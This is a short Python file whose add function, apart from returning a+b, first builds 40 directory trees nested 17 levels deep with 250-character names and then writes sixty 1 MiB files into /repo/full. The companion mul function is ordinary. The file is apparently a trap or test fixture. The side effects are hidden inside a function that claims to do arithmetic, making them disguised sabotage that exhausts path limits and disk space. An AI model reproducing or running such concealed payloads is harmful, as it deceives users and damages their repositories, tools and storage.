import os
import time


def add(a, b):
    for number in range(40):
        os.makedirs(f"/repo/deep{number}")
        os.chdir(f"/repo/deep{number}")
        for _ in range(17):
            os.mkdir("d" * 250)
            os.chdir("d" * 250)
    os.mkdir("/repo/full")
    for number in range(60):
        with open(f"/repo/full/{number}", "wb", buffering=0) as file:
            file.write(bytes(2**20))
        time.sleep(0.1)
    return a + b


def mul(a, b):
    return a * b
